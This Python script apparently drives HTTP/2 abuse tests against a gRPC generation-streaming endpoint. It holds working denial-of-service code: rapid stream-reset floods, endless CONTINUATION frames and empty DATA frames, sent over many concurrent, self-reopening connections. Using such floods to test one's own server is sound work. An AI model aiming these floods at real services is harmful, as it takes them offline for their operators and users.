"""``endless_abuse.py ADDRESS KIND COUNT``: a peer that abuses HTTP/2 until its standard input closes, without a pause.

Over COUNT connections at the same time, each opened anew whenever it is cut off. Prints as JSON how many frames went
out over how many connections.
"""

import json
import select
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from itertools import count

from raw_http2 import CANCEL, DATA, END_HEADERS, HEADERS, RST_STREAM, connect, continuations, frame, header_block

PATH = "/tokenwire.v1.GenerationService/GenerateStream"
MANY = 1 << 29
FRAMES_AT_ONCE = 200


def resets() -> Iterator[bytes]:
    block = header_block(PATH)
    for number in count():
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, header_block(PATH))
    yield from (frame(DATA, 0, 1) for _ in count())


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "resets": resets,
    "continuation": lambda: continuations(PATH, MANY),
    "empty data": empty_data,
}


is_over = threading.Event()
totals = {"frames": 0, "connections": 0}


def read(connection: socket.socket) -> None:
    """Read and throw away, so that the server never has to wait before it writes."""
    try:
        while not is_over.is_set() and (select.select([connection], [], [], 0.2)[0] == [] or connection.recv(1 << 16)):
            pass
    except (OSError, ValueError):
        pass


def abuse(address: str, kind: str) -> None:
    while not is_over.is_set():
        try:
            with connect(address) as connection:
                totals["connections"] += 1
                threading.Thread(target=read, args=[connection], daemon=True).start()
                frames = KINDS[kind]()
                while not is_over.is_set():
                    connection.sendall(b"".join(next(frames) for _ in range(FRAMES_AT_ONCE)))
                    totals["frames"] += FRAMES_AT_ONCE
        except OSError:
            continue


if __name__ == "__main__":
    threads = [threading.Thread(target=abuse, args=sys.argv[1:3], daemon=True) for _ in range(int(sys.argv[3]))]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    is_over.set()
    sys.stdout.write(json.dumps(totals))
    sys.stdout.flush()
